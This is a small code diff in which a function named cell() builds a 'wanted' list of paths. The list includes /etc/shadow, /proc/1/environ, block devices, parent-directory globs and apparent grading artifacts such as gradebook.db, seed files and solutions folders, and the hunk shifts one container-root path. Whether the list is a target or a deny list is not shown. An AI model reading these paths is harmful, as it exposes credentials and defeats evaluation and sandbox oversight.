@@ -14,7 +14,7 @@ def cell():
         "/etc/shadow",
         "/proc/1/environ",
     ]
-    wanted += ["/tmp/**/seed", "/tmp/**/gradebook.db", "/**/solutions/**", "/sys/class/net/*", "/proc/1/root/work/*"]
+    wanted += ["/tmp/**/seed", "/tmp/**/gradebook.db", "/**/solutions/**", "/sys/class/net/*", "/proc/1/root/home/*"]
     wanted += [
         "../**",
         "/dev/sd*",
